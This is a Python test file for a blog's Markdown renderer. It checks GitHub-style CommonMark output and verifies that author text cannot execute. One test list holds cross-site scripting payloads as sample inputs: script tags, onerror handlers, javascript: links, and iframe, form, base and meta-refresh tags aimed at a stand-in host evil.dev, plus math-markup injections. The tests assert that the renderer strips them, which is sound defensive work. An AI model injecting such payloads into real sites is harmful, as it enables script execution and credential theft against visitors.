"""What authors write is what readers see: CommonMark as GitHub reads it, and nothing that could act."""

from __future__ import annotations

import re
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from journal.blog.prose import Reading, read_prose
from journal.text.markdown import parser

SHOWN = {
    "a list right below a line": ("Text:\n* one\n* two\n", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
    "two blanks of nesting": ("- a\n  - b\n", "<li>a\n<ul>\n<li>b</li>"),
    "what another program left": ("Text {% endhighlight %}\n", "<p>Text {% endhighlight %}</p>"),
    "braces at the end of a heading": ("## Sets {1, 2}\n", '<h2 id="sets-1-2">Sets {1, 2}</h2>'),
    "a footnote": ("A[^1]\n\n[^1]: note\n", '<section class="footnotes">'),
    "a table": ("| a | b |\n|--|--:|\n| 1 | 2 |\n", '<td class="right">2</td>'),
    "a task": ("- [x] done\n", 'type="checkbox" checked'),
    "struck words": ("~~no~~\n", "<s>no</s>"),
    "an address": ("see https://a.dev/x.\n", '<a href="https://a.dev/x">https://a.dev/x</a>.'),
    "an alert": ("> [!WARNING]\n> hot\n", "markdown-alert-warning"),
    "a note": ('!!! note "Mind"\n    this\n', '<p class="admonition-title">Mind</p>'),
    "a definition": ("Term\n: what it is\n", "<dt>Term</dt>\n<dd>what it is</dd>"),
    "a formula": ("Then $x^2$.\n", "<msup><mi>x</mi><mn"),
    "a formula on its own": ("$$\na = b\n$$\n", 'display="block"'),
    "a formula in a line of its own words": ("Then $$a = b$$ holds.\n", 'Then <span class="math" tabindex="0"><math'),
    "a formula in a list": ("- so\n\n  $$\n  x^2\n  $$\n", "<msup><mi>x</mi>"),
    "a formula as code": ("$`a_1`$ and\n", "<msub><mi>a</mi><mn>1</mn></msub>"),
    "a formula as a fence": ("```math\nx\n```\n", 'display="block"'),
    "aligned lines": ("$$\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n$$\n", '<mtd class="tml-left"'),
    "numbered lines": ("$$\n\\begin{align} a &= b \\\\ c &= d \\end{align}\n$$\n", "<mi>d</mi>"),
    "cases": ("$f = \\begin{cases} 1 & x > 0 \\\\ 0 & \\text{else} \\end{cases}$\n", "<mtext>else</mtext>"),
    "an operator of one's own": ("$\\operatorname*{arg\\,max}_x$\n", "<mi>arg\u2009max</mi>"),
    "a relation": ("$x \\sim y$\n", "<mo>∼</mo>"),
    "an escaped star in a formula": ("$a \\* b$\n", "<mo>∗</mo>"),
    "what is no formula": ("it is $\\nonsense{x}$\n", '<code class="math">\\nonsense{x}</code>'),
    "other dollars": ("US$5, then US$6\n", "<p>US$5, then US$6</p>"),
    "names of variables": ("$HOME/$USER and $PATH:$HOME\n", "<p>$HOME/$USER and $PATH:$HOME</p>"),
    "a dollar before code": ("pay $5 for `a$`\n", "pay $5 for <code>a$</code>"),
    "an emoji's name": (":smile: `:smile:` at 10:30:20\n", "<p>😄 <code>:smile:</code> at 10:30:20</p>"),
    "an address in quotes": ('say "https://a.dev/x"\n', '"<a href="https://a.dev/x">https://a.dev/x</a>"'),
    "an address in capitals": ("HTTPS://A.dev/x.\n", '<a href="HTTPS://A.dev/x">HTTPS://A.dev/x</a>.'),
    "an anchor of one's own": ('<a name="here"></a>\n', '<a name="here"></a>'),
    "a heading that is called as another is numbered": ("## A\n\n## A\n\n## A-1\n", '<h2 id="a-1-1">A-1</h2>'),
    "a frame of another host, as a link": (
        '<iframe src="https://other.dev/x?a=1"></iframe>\n',
        '<a href="https://other.dev/x?a=1">https://other.dev/x?a=1</a>',
    ),
    "prices": ("from $5 to $10\n", "<p>from $5 to $10</p>"),
    "code": ("```python\nx = 1\n```\n", '<code class="language-python">'),
    "a diagram": ("```mermaid\ngraph TD\n```\n", '<pre class="diagram">graph TD'),
    "folded words": ("<details><summary>More</summary>\n\n*in*\n\n</details>\n", "<em>in</em>"),
    "a hard line end": ("a  \nb\n", "a<br>\nb"),
    "an ordered list that goes on": ("3. c\n4. d\n", '<ol start="3">'),
    "loose numbers with a bracket": ("1) a\n2) b\n", "<ol>\n<li>a</li>"),
    "a picture with a caption": ("![A plot](p.png)\n*What it shows*\n", "<figcaption>What it shows</figcaption>"),
    "emphasis in a word": ("un*frigging*believable, snake_case_name\n", "snake_case_name"),
    "a frame of a host that was named": (
        '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>\n',
        '<iframe src="https://www.youtube-nocookie.com/embed/x">',
    ),
}
READING = Reading(frames={"www.youtube-nocookie.com"})

ACTIVE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.dev/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.dev><input type=password></form>",
    '<p style="background:url(https://evil.dev)">x</p>',
    "<style>body { display: none }</style>",
    '<base href="https://evil.dev/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.dev">',
    '<link rel="stylesheet" href="https://evil.dev/x.css">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<div id="__search">x</div>',
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\class{x}{y}$",
    "$\\id{__search}{y}$",
    "$\\style{color:red}{y}$",
    "$\\def\\a{\\a\\a}\\a$",
    "```html\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    "| <img src=x onerror=alert(1)> |\n|--|\n| <script>alert(1)</script> |",
]


@pytest.mark.parametrize("what", SHOWN)
def test_what_an_author_writes_is_shown(what: str) -> None:
    text, expected = SHOWN[what]
    assert expected in read_prose(text, READING).html


@pytest.mark.parametrize("text", ACTIVE)
def test_nothing_in_a_text_can_act(text: str) -> None:
    page = read_prose(f"Before.\n\n{text}\n\nAfter.\n", READING).html
    tags = "".join(re.findall(r"<[^>]*>", page)).lower()
    assert not re.search(r"<(script|style|iframe[^>]*evil|object|embed|form|base|meta|link|svg)\b", tags)
    assert not re.search(r"\son\w+\s*=|javascript:|data:text|style=|srcdoc|type=\"?password|__search", tags)
    assert "Before." in page


NAMES = (
    *("int", "list", "set", "vector", "union", "max", "min", "sum", "in", "and", "or", "not", "lambda", "apply"),
    *("domain", "T", "String", "foo-bar", "std::pair"),
)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_in_pointed_brackets_takes_no_words_along(name: str) -> None:
    """Some of them are elements of MathML, at which a parser once dropped the rest of the paragraph."""
    page = read_prose(f"A vector<{name}> b **after**.\n\nNext.\n", READING).html
    assert "b <strong>after</strong>." in page and "<p>Next.</p>" in page


@pytest.mark.parametrize("name", ["script", "style", "title", "textarea", "template", "noscript", "iframe", "xmp"])
def test_a_tag_that_is_only_named_is_words_and_hides_nothing(name: str) -> None:
    page = read_prose(f"Use the <{name}> tag, after.\n\nNext.\n", READING).html
    assert f"Use the &lt;{name}&gt; tag, after." in page and "<p>Next.</p>" in page


def test_a_whole_script_is_left_out_with_what_is_in_it() -> None:
    page = read_prose("Before.\n\n<script>alert(1)</script>\n\nAfter.\n", READING).html
    assert "alert" not in page and "After." in page


def test_the_examples_of_commonmark_come_out_as_published(tmp_path: Path) -> None:
    """The 652 examples of CommonMark 0.31.2; GitHub's autolinks differ in four of them, and so do ours."""
    examples = re.findall(r"^`{32} example\n(.*?)^\.\n(.*?)^`{32}$", _specification(tmp_path), re.DOTALL | re.MULTILINE)
    assert len(examples) == 652
    wrong = [text for text, expected in examples if _plain(parser().render(_tabs(text))) != _plain(_tabs(expected))]
    assert [text for text in wrong if not re.search(r"https?://|@", text)] == []
    assert len(wrong) <= 4


def _specification(folder: Path) -> str:
    npm = shutil.which("npm")
    if npm is None:
        pytest.skip("npm, which has the examples, is not here")
    done = subprocess.run([npm, "pack", "commonmark-spec@0.31.2"], cwd=folder, capture_output=True, text=True)
    if done.returncode:
        pytest.skip("the examples can't be fetched")
    with tarfile.open(folder / done.stdout.split()[-1]) as archive:
        stream = archive.extractfile("package/spec.txt")
        assert stream
        return stream.read().decode()


def _tabs(text: str) -> str:
    return text.replace("→", "\t")


def _plain(html: str) -> str:
    """Return HTML without differences that no reader sees: slashes of empty elements, blank lines in empty quotes."""
    return re.sub(r"\s*/>", ">", html).replace("<blockquote>\n</blockquote>", "<blockquote></blockquote>").strip()


def test_the_excerpt_is_the_quick_summary() -> None:
    text = "## Hello :)\n\nA quick summary of today:\n\n* cut clips\n* read `a` **book**\n\n### Part\n\nMore.\n"
    assert read_prose(text, READING).excerpt == "cut clips; read a book"


def test_the_excerpt_is_the_authors_own_and_not_what_a_step_made() -> None:
    text = "<!-- journal:a -->\n- clips: **36**\n\nGenerated words.\n<!-- /journal:a 00000000 -->\n\nMy own words.\n"
    prose = read_prose(text, READING)
    assert prose.excerpt == "My own words."
    assert prose.words == 3
    assert '<section class="block" id="a"' in prose.html


def test_markers_in_code_are_text() -> None:
    page = read_prose("```\n<!-- journal:a -->\n```\n", READING).html
    assert "&lt;!-- journal:a --&gt;" in page and "section" not in page


def test_headings_of_one_name_have_anchors_of_their_own() -> None:
    assert [one.anchor for one in read_prose("## A b!\n\n## A b\n", READING).headings] == ["a-b", "a-b-1"]
